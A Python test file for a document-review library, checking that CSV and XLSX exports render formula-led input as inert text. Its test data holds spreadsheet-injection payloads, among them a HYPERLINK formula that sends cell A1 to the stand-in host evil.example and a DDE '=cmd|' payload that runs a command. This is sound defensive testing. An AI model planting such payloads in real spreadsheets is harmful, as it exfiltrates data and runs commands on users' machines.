"""Every cell of every export is data, never a formula (issue 23, item 3): review grids and checklist reports
whose questions, document names, answers, notes, quotes and clauses start like formulas, written as CSV and
XLSX by the library, the CLI and a real `docpipe serve`, and read back with the csv module and openpyxl: every
CSV field, header included, is apostrophe-prefixed when it leads like a formula; every XLSX cell of every
sheet, header rows included, is a string cell (quote-prefixed when it leads like a formula), never a formula.

Real parts: generated PDFs, the real extraction worker, the pipeline with the hashing embedder, the real CLI in
a subprocess and a real server on 127.0.0.1; the engine is the echo engine, or a small real engine that
replies with formulas.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest
from support.contracts import agreement_pdf, lines_pdf
from support.server import new_key, serving

from docpipe import DocPipe, ReviewGrid, Settings
from docpipe.analysis.report import CategoryFinding, ContractReport
from docpipe.audit import AuditManifest
from docpipe.engine.base import GenerationRequest, GenerationResult
from docpipe.engine.fake import EchoEngine
from docpipe.review.grid import Cell, Column, ReviewManifest, Row
from docpipe.sheets import MAX_TITLE_CHARS, sheet_title
from docpipe.types import Citation

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
DDE = "=cmd|' /C calc'!A0"
# Every way a cell can lead like a formula (OWASP's =, +, -, @, tab, CR; a line feed; after whitespace; a NUL
# a reader may drop; the full-width signs), each a column key, a document name, an answer, a note and a quote.
DANGEROUS = [
    HYPERLINK,
    DDE,
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000@SUM(A1)",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
]
# Questions and file names as a user can give them through the public API (a question is stripped of outer
# whitespace, a file name of control characters).
QUESTIONS = [HYPERLINK + "?", "+SUM(1,1)?", "-2+3 days?", "@SUM(A1)?", "\uff1d1+1?"]
NAMES = ["=HYPERLINK(evil).pdf", "+cmd.pdf", "-rm.pdf", "@SUM(A1).pdf", "\uff1dx.pdf"]
REPLY = 'ANSWER: =SUM(A1)\nFINDING: uncertain\nQUOTES: "@SUM(A1) the Seller shall supply" [s001]\nNOTE: -2+3'


def live(text: str) -> bool:
    """Whether a spreadsheet could take `text` for a formula: OWASP's leading characters, or the signs (ASCII
    and full-width) after leading whitespace."""
    # Sets, not strings: "" is in every string, and an empty field is no formula.
    return text[:1] in set("=+-@\t\r\n") or text.lstrip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")


def csv_fields(text: str) -> list[list[str]]:
    """Returns every row of the CSV `text`, read as a spreadsheet's importer reads it (the csv module)."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, "an empty CSV"
    return rows


def assert_csv_inert(text: str) -> list[list[str]]:
    """Asserts no field of any row (the header included) of the CSV `text` leads like a formula."""
    rows = csv_fields(text)
    live_fields = [(r, field) for r, row in enumerate(rows) for field in row if live(field)]
    assert live_fields == [], f"CSV fields a spreadsheet computes (row, text): {live_fields}"
    return rows


def assert_xlsx_inert(data: bytes) -> dict[str, list[list[object]]]:
    """Asserts every cell of every sheet of the workbook `data` (header rows included) is a string cell, never
    a formula, and that a cell leading like a formula carries Excel's quote prefix; returns the values."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    values: dict[str, list[list[object]]] = {}
    for sheet in book.worksheets:
        assert not live(sheet.title) and len(sheet.title) <= MAX_TITLE_CHARS
        values[sheet.title] = []
        for row in sheet.iter_rows():
            values[sheet.title].append([cell.value for cell in row])
            for cell in row:
                if cell.value is None:
                    continue
                where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                assert cell.data_type == "s", f"{where} is of type {cell.data_type!r}, not a string"
                if live(str(cell.value)):
                    assert cell.quotePrefix, f"{where} leads like a formula without the quote prefix"
    return values


def prefixed(text: str) -> str:
    """What the CSV guard makes of the formula-led `text`: an apostrophe first, what XML cannot hold gone, a
    carriage return a line feed (so the writer quotes it whatever its line terminator)."""
    return "'" + text.replace("\x00", "").replace("\r", "\n")


class FormulaEngine(EchoEngine):
    """Replies with a formula as the answer, the note and the start of the quote (named like the echo engine)."""

    def generate(self, requests: Sequence[GenerationRequest]) -> list[GenerationResult]:
        self.batch_sizes.append(len(requests))
        return [GenerationResult(text=REPLY) for _ in requests]


def quoting(text: str, *, verified: bool) -> Citation:
    return Citation(section_id="s001", heading=text, page_start=1, page_end=1, quote=text, verified=verified)


def constructed_grid() -> ReviewGrid:
    """Returns a grid with a column, a row, an answer, a note and a quote for each of `DANGEROUS`: what the
    public API cannot put in a header (a question led by a tab, a NUL) still reaches `ReviewGrid` from JSON."""
    columns = [Column(key=text, question=text, query=text) for text in DANGEROUS]
    rows = [Row(document_id=f"{n:064x}", name=text) for n, text in enumerate(DANGEROUS)]
    cells = [
        [
            Cell(
                status="uncertain",
                answer=answer,
                note=answer,
                quotes=[quoting(answer, verified=False)],
            )
            for answer in DANGEROUS
        ]
        for row in rows
    ]
    manifest = ReviewManifest(
        engine=DDE,
        model=HYPERLINK,
        model_revision=None,
        mode="no_think",
        layout="shared",
        prompt_version="1",
        settings_fingerprint="+f",
        index_fingerprint="-i",
        collection="@deal",
    )
    return ReviewGrid(rows=rows, columns=columns, cells=cells, manifest=manifest)


def test_every_cell_of_a_grid_with_formula_led_headers_names_and_answers_is_text(tmp_path: Path) -> None:
    grid = constructed_grid()
    header, *body = assert_csv_inert(grid.to_csv())
    assert header == ["document", "document_id", *map(prefixed, DANGEROUS)]
    assert [row[0] for row in body] == [prefixed(text) for text in DANGEROUS]
    citations = assert_csv_inert(grid.citations_csv())
    assert len(citations) == 1 + len(DANGEROUS) ** 2
    assert {row[2] for row in citations[1:]} == {prefixed(text) for text in DANGEROUS}  # the question column
    assert {row[4] for row in citations[1:]} == {prefixed(text) for text in DANGEROUS}  # the answer column

    sheets = assert_xlsx_inert(grid.to_xlsx(tmp_path / "grid.xlsx"))
    assert list(sheets) == ["Review", "Citations", "Manifest"]
    keys = sheets["Review"][0][1:-1]  # the name first, the SHA-256 last
    assert keys == [text.replace("\x00", "") for text in DANGEROUS]  # as given, but what XML cannot hold
    assert [row[0] for row in sheets["Review"][1:]] == keys
    assert {row[1] for row in sheets["Citations"][1:]} == set(keys)
    assert {row[3] for row in sheets["Citations"][1:]} == set(keys)  # the answers
    assert ["engine", DDE] in sheets["Manifest"] and ["model", HYPERLINK] in sheets["Manifest"]


def test_a_grid_through_the_public_api_exports_its_formula_questions_and_names_as_text(tmp_path: Path) -> None:
    room = tmp_path / "room"
    room.mkdir()
    for n, name in enumerate(NAMES):
        (room / name).write_bytes(agreement_pdf(f"Seller {n} Inc.", f"Buyer {n} LLC", "thirty (30)", "Texas"))
    dp = DocPipe(Settings.preset("test", home=tmp_path / "home"), engine=FormulaEngine())
    grid = dp.review(room, questions=QUESTIONS)
    assert sorted(row.name for row in grid.rows) == sorted(NAMES)
    # The reply parser drops the answer's and the note's leading signs; a quote is kept as the model gave it.
    assert {q.quote for row in grid.cells for cell in row for q in cell.quotes} == {"@SUM(A1) the Seller shall supply"}

    header, *body = assert_csv_inert(grid.to_csv())
    assert header[2:] == [prefixed(q) for q in QUESTIONS]
    assert sorted(row[0] for row in body) == sorted(map(prefixed, NAMES))
    citations = assert_csv_inert(grid.citations_csv())
    assert {row[8] for row in citations[1:]} == {prefixed("@SUM(A1) the Seller shall supply")}  # the quote
    sheets = assert_xlsx_inert(grid.to_xlsx())
    assert sheets["Review"][0] == ["Document", *QUESTIONS, "Document ID (SHA-256)"]
    assert sorted(row[0] for row in sheets["Review"][1:]) == sorted(NAMES)


def test_a_checklist_report_whose_clause_is_a_formula_exports_it_as_text(tmp_path: Path) -> None:
    """Through `DocPipe.analyze` offline, over a contract that opens with a formula in its governing-law clause
    (the first line: the clause the extractive picker quotes starts with it)."""
    clause = f"{HYPERLINK} This Agreement is governed by the laws of the State of Texas."
    pdf = tmp_path / "clause.pdf"
    pdf.write_bytes(lines_pdf(clause, "1. SUPPLY", "1.1 The Seller shall supply the Products.", "2. NOTICES"))
    report = DocPipe(Settings.preset("test", home=tmp_path / "home")).analyze(pdf, ["Governing Law"])
    assert report.finding("Governing Law").clause.startswith(HYPERLINK), report.finding("Governing Law").clause

    header, row = assert_csv_inert(report.to_csv())
    assert header == ["category", "status", "clause", "pages", "note"]
    assert row[2].startswith("'" + HYPERLINK) and "State of Texas" in row[2]


def test_a_report_built_from_its_data_guards_every_field() -> None:
    """The fields the public path cannot make formula-led (the category, the note) through the same guard."""
    quote = quoting(HYPERLINK, verified=True)
    findings = [
        CategoryFinding(
            category=text, group="-", question=text, status="present", quotes=[quote], note=text, searched=[]
        )
        for text in DANGEROUS
    ]
    manifest = AuditManifest(kind="report", document_sha256="d" * 64, document_name="=evil.pdf", engine="fake")
    report = ContractReport("d" * 64, "=evil.pdf", "generative", findings, manifest)
    header, *rows = assert_csv_inert(report.to_csv())
    assert [row[0] for row in rows] == [prefixed(text) for text in DANGEROUS]
    assert {row[2] for row in rows} == {"'" + HYPERLINK}


@pytest.mark.parametrize(
    "name",
    ["=cmd|' /C calc'!A0", "+SUM(A1)", "'quoted'", "Q3: [draft] *final*?", "a/b\\c", "x" * 40, "  @x", "", "'''"],
)
def test_sheet_titles_are_ones_excel_accepts_and_never_formula_led(name: str) -> None:
    from openpyxl import Workbook

    title = sheet_title(name)
    assert title and len(title) <= MAX_TITLE_CHARS and not live(title)
    assert not set("[]:*?/\\") & set(title) and not title.startswith("'") and not title.endswith("'")
    book = Workbook()
    book.remove(book.active)  # its "Sheet" would make a title "Sheet" a duplicate
    assert book.create_sheet(title).title == title  # openpyxl refuses what Excel refuses


def test_the_cli_writes_formula_questions_and_names_as_text(tmp_path: Path) -> None:
    pdf = tmp_path / "=HYPERLINK(evil).pdf"
    pdf.write_bytes(agreement_pdf("Seller Inc.", "Buyer LLC", "thirty (30)", "Texas"))
    out = tmp_path / "grid.xlsx"
    argv = ["review", "--preset", "test", "--home", str(tmp_path / "home"), "--engine", "echo", str(pdf)]
    argv += ["-q", QUESTIONS[0], "-q", "@SUM(A1)?"]

    def docpipe(*extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "docpipe", *argv, *extra], capture_output=True, text=True, timeout=300, check=False
        )

    wrote = docpipe("-o", str(out))
    assert wrote.returncode == 0, wrote.stderr
    sheets = assert_xlsx_inert(out.read_bytes())
    assert sheets["Review"][0] == ["Document", QUESTIONS[0], "@SUM(A1)?", "Document ID (SHA-256)"]
    printed = docpipe("--format", "csv")
    assert printed.returncode == 0, printed.stderr
    header, row = assert_csv_inert(printed.stdout)
    assert header[2:] == [prefixed(QUESTIONS[0]), "'@SUM(A1)?"] and row[0] == "'=HYPERLINK(evil).pdf"


@pytest.mark.integration
def test_the_server_downloads_formula_questions_and_names_as_text(tmp_path: Path) -> None:
    """A writer of the matter plants the formulas; the grid a colleague downloads holds them as text."""
    import httpx

    home = tmp_path / "home"
    home.mkdir()
    key = new_key(home, "mallory", "deal-x:write")
    with serving(home, "--engine", "echo", "--no-ui", token=None) as served:

        def call(method: str, path: str, **kw) -> httpx.Response:
            headers = {"Authorization": f"Bearer {key}"}
            return httpx.request(method, served.url + path, headers=headers, timeout=120, **kw)

        assert call("POST", "/v1/collections", json={"name": "room"}).status_code in (200, 201)
        pdfs = [agreement_pdf(f"Seller {n} Inc.", f"Buyer {n} LLC", "thirty (30)", "Texas") for n in range(2)]
        files = [("file", (name, pdf, "application/pdf")) for name, pdf in zip(NAMES[:2], pdfs)]
        added = call("POST", "/v1/collections/room/documents", files=files)
        assert added.status_code == 200 and len(added.json()["added"]) == 2, added.text
        started = call("POST", "/v1/collections/room/review", json={"questions": QUESTIONS, "mode": "no_think"})
        assert started.status_code == 202, started.text
        url = started.json()["url"]
        deadline = time.monotonic() + 120
        while (job := call("GET", url).json())["state"] not in ("done", "failed", "cancelled"):
            assert time.monotonic() < deadline, job
            time.sleep(0.05)  # polling, as a client does: the job's state is the event
        assert job["state"] == "done", job

        got_csv = call("GET", f"{url}/grid", params={"format": "csv"})
        assert got_csv.status_code == 200 and got_csv.headers["content-type"].startswith("text/csv")
        header, *body = assert_csv_inert(got_csv.text)
        assert header[2:] == [prefixed(q) for q in QUESTIONS]
        assert sorted(row[0] for row in body) == sorted(map(prefixed, NAMES[:2]))
        got_xlsx = call("GET", f"{url}/grid", params={"format": "xlsx"})
        assert got_xlsx.status_code == 200
        sheets = assert_xlsx_inert(got_xlsx.content)
        assert sheets["Review"][0] == ["Document", *QUESTIONS, "Document ID (SHA-256)"]
        assert sorted(row[0] for row in sheets["Review"][1:]) == sorted(NAMES[:2])
        assert {row[1] for row in sheets["Citations"][1:]} == set(QUESTIONS)


def test_exports_are_private_to_their_owner_like_the_store(tmp_path: Path) -> None:
    """Grids, key terms, calendars and manifests hold privileged text: the CLI and the library write them 0600
    whatever the umask, and an export that replaces a world-readable file leaves it 0600 (issue 27)."""
    import os
    import stat

    pdf = tmp_path / "contract.pdf"
    pdf.write_bytes(agreement_pdf("Seller Inc.", "Buyer LLC", "thirty (30)", "Texas"))
    home = str(tmp_path / "home")
    stale = tmp_path / "grid.csv"
    stale.write_text("old")
    stale.chmod(0o644)
    outputs = {
        "review.xlsx": ["review", str(pdf), "-q", "Governing law?", "-o", str(tmp_path / "review.xlsx")],
        "grid.csv": [
            "review",
            str(pdf),
            "-q",
            "Governing law?",
            "-o",
            str(stale),
            "--manifest",
            str(tmp_path / "m.json"),
        ],
        "terms.json": ["terms", str(pdf), "-o", str(tmp_path / "terms.json"), "--ics", str(tmp_path / "dates.ics")],
        "report.md": ["analyze", str(pdf), "-o", str(tmp_path / "report.md")],
    }

    def umask_022() -> None:
        os.umask(0o022)

    for name, argv in outputs.items():
        done = subprocess.run(
            [sys.executable, "-m", "docpipe", *argv[:1], "--preset", "test", "--home", home, *argv[1:]],
            capture_output=True,
            text=True,
            timeout=300,
            preexec_fn=umask_022,
        )
        assert done.returncode == 0, (name, done.stderr)
    written = ["review.xlsx", "grid.csv", "m.json", "terms.json", "dates.ics", "report.md"]
    modes = {name: stat.S_IMODE((tmp_path / name).stat().st_mode) for name in written}
    assert modes == dict.fromkeys(written, 0o600)
    assert stale.read_text() != "old"
    old = os.umask(0o022)
    try:
        grid = DocPipe(Settings.preset("test", home=tmp_path / "home")).review([pdf], questions=["Governing law?"])
        grid.to_xlsx(tmp_path / "api.xlsx")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "api.xlsx").stat().st_mode) == 0o600
